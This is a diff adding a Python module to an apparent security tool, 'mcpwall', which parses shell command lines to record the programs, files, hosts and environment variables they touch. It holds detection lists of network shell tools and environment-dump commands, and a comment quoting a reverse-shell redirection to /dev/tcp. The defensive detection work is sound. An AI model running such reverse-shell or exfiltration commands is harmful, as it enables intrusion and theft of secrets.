@@ -1,0 +1,131 @@
+"""What a command line runs and touches: each simple command as the shell runs it (`touches.programs`).
+
+`_shell.simple_commands` splits a command line as the shell would (quotes, escapes, `$IFS`,
+`bash -c` scripts, substitutions); here each simple command gives the program it runs (from its
+basename on: `/usr/bin/whoami` is `whoami`), through `sudo` and the like to the command they
+run, and what that program touches: files (`_calls_files`), hosts and sinks (`_calls_net`), and the
+environment variables it prints or sends (`touches.env`, `*` for a whole dump).
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Final
+
+from mcpwall.policy._calls_args import ENV, HOSTS, KEY_COMMAND, PROGRAMS, SINKS, Fact
+from mcpwall.policy._calls_files import basename, file_operands, redirections
+from mcpwall.policy._calls_net import (
+    DEV_TCP,
+    HTTP,
+    LOOKUP,
+    REMOTE,
+    SOCKET,
+    http_command,
+    lookup_command,
+    remote_command,
+    socket_command,
+)
+from mcpwall.policy._shell import SHELLS, program_start, simple_commands
+
+#: Programs that run their operands or input as code, or escalate: what follows is a command too.
+_ESCALATE = frozenset({"sudo", "doas", "su", "pkexec", "runuser"})
+#: Programs that print or send their operands: a `$VAR` among them leaves the machine's environment.
+_PRINTS = (
+    frozenset({"echo", "printf", "print", "cat", "curl", "wget", "nc", "ncat", "netcat", "http", "logger", "mail",
+               "sendmail", "tee", "xargs"})
+    | LOOKUP
+)
+#: Programs that print the whole environment when run without operands.
+_ENV_DUMPS = frozenset({"env", "printenv", "set", "export", "declare", "typeset", "compgen", "get-childitem"})
+#: The programs a command argument usually starts with: a text under any key that has shell syntax
+#: (`;`, `|`, `&&`, `$(...)`, `>`) and starts with one of these is a command line.
+KNOWN_PROGRAMS: Final = (
+    frozenset({"awk", "base64", "basename", "bash", "bzip2", "cat", "cd", "chmod", "chown", "cp", "crontab", "curl",
+     "cut", "date", "dd", "df", "diff", "dig", "dirname", "docker", "du", "echo", "env", "eval", "exec",
+     "export", "find", "gawk", "git", "grep", "gzip", "head", "history", "host", "hostname", "id",
+     "ifconfig", "ip", "kill", "kubectl", "less", "ln", "ls", "lsof", "make", "mkdir", "more", "mv", "nc",
+     "ncat", "netcat", "netstat", "node", "npm", "npx", "nslookup", "openssl", "perl", "php", "ping", "pip",
+     "pip3", "printenv", "printf", "ps", "pwd", "python", "python3", "rm", "ruby", "rsync", "scp", "sed",
+     "sh", "sleep", "socat", "sort", "ss", "ssh", "stat", "sudo", "tail", "tar", "tee", "telnet", "touch",
+     "tr", "uname", "uniq", "unzip", "wc", "wget", "whoami", "xargs", "xxd", "zip", "zsh", "doas", "su",
+     "systemctl", "launchctl", "powershell", "pwsh", "cmd", "iwr", "irm", "invoke-webrequest",
+     "invoke-restmethod", "certutil", "reg", "schtasks", "nmap", "at", "getent", "w", "who", "last",
+     "groups", "users", "arp", "route"})
+    | SHELLS
+)
+SHELL_SYNTAX: Final = re.compile(r"[;|&`<>\n]|\$[({A-Za-z_]")
+_ENV_VAR = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?")
+
+
+def _env_reads(program: str, args: list[str], out: list[Fact]) -> None:
+    operands = [a for a in args if not a.startswith("-")]
+    if program in _ENV_DUMPS and (not args or (program != "set" and not operands) or program == "printenv"):
+        if program in ("export", "declare", "typeset") and not any(a in ("-p", "-x") for a in args) and args:
+            return
+        if program == "printenv" and operands:
+            out.extend((ENV, name) for name in operands)
+        else:
+            out.append((ENV, "*"))
+        return
+    if program in _PRINTS:
+        for word in args:
+            for name in _ENV_VAR.findall(word):
+                if name != "IFS":
+                    out.append((ENV, name))
+
+
+def _command_facts(words: list[str], out: list[Fact], depth: int = 0) -> None:
+    for word in words:  # `bash -i >& /dev/tcp/h/4444`: a redirection to a socket
+        for m in DEV_TCP.finditer(word):
+            out.append((HOSTS, m.group(1).lower()))
+            out.append((SINKS, f"socket {m.group(1).lower()}:{m.group(2)}"))
+    words = redirections(words, out)
+    start = program_start(words)
+    if start >= len(words):
+        if words and basename(words[0]) == "env":  # `env`, `env -0`: the whole environment
+            out.append((PROGRAMS, " ".join(["env", *words[1:]])))
+            out.append((ENV, "*"))
+        return
+    program = basename(words[start])
+    args = words[start + 1 :]
+    out.append((PROGRAMS, " ".join([program, *args])))
+    if program in _ESCALATE and depth < 4:
+        j = 0
+        while j < len(args) and args[j].startswith("-"):
+            j += 2 if args[j] in ("-u", "-g", "-c", "-C", "-p", "-h", "-U") else 1
+        if j < len(args):
+            _command_facts(args[j:], out, depth + 1)
+        return
+    if program in HTTP:
+        http_command(program, args, out)
+    elif program in SOCKET:
+        socket_command(program, args, out)
+    elif program in REMOTE:
+        remote_command(program, args, out)
+    elif program in LOOKUP:
+        lookup_command(args, out)
+    elif program not in SHELLS:
+        file_operands(program, args, out)
+    _env_reads(program, args, out)
+
+
+def command_facts(text: str) -> list[Fact]:
+    """What the command line `text` runs and touches (each simple command, `sh -c` scripts included)."""
+    out: list[Fact] = []
+    for words in simple_commands(text):
+        _command_facts(words, out)
+    return out
+
+
+def is_command(text: str, kind: int, loose: bool = False) -> bool:
+    """Whether a text is a command line: under a command key, or with shell syntax (`loose`: or without)
+    and starting with a known program."""
+    if kind == KEY_COMMAND:
+        return True
+    if len(text) > 4096 or (not loose and SHELL_SYNTAX.search(text) is None):
+        return False
+    first = text.lstrip().split(None, 1)
+    return bool(first) and basename(first[0].strip("\"'({")) in KNOWN_PROGRAMS
+
+
+__all__ = ["KNOWN_PROGRAMS", "SHELL_SYNTAX", "command_facts", "is_command"]
